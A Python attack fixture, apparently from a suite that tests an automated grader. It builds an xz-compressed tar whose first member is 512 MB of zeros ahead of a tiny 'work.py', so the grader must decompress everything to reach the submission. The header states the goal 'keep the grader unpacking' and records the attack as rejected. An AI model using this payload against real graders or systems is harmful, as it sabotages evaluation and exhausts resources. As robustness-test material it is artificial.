"""A compressed tar whose first member is large and not asked for, so that it must be unpacked to be skipped."""
# /// attack
# class = 65
# goal = "keep the grader unpacking"
# gain = "death"
# kind = "build"
# outcome = ["rejected", "failed"]
# naive = true
# ///

import io
import lzma
import tarfile


def build(folder):
    path = folder / "handed_in.tar.xz"
    large = tarfile.TarInfo("weights.bin")
    large.size = 512 << 20
    text = b"def standardise(x):\n    return x\n"
    small = tarfile.TarInfo("work.py")
    small.size = len(text)
    zeros = bytes(1 << 20)
    with lzma.open(path, "wb", preset=0) as stream:
        stream.write(large.tobuf())
        for _ in range(large.size // len(zeros)):
            stream.write(zeros)
        stream.write(small.tobuf() + text.ljust(512, b"\0") + bytes(1024))
    return path
